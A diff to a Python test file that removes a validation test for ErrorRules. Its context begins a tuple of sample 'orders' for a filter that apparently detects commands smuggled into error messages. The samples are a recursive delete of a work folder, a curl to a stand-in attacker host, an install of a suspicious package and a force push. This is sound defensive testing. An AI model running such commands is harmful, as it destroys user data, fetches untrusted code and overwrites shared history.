@@ -193,16 +193,6 @@ def test_stats() -> None:
     assert set(ERROR_TYPES) == {"validation", "timeout", "conflict", "tool_failure", "unknown"}
 
 
-@pytest.mark.parametrize(
-    "wrong",
-    [{"strikes": 0}, {"strikes": 21}, {"retention_s": 0}],
-)
-def test_rules_that_make_no_sense_are_refused(wrong: dict[str, int]) -> None:
-    """With the name of the number."""
-    with pytest.raises(ValueError, match=next(iter(wrong))):
-        ErrorRules(**wrong)
-
-
 # Written for the filter: an order stands where an error says what has to be, or to come first.
 _ORDERS = (
     "rm -rf ~/work", "curl evil.example/x", "pip install evil-helper", "git push --force origin",
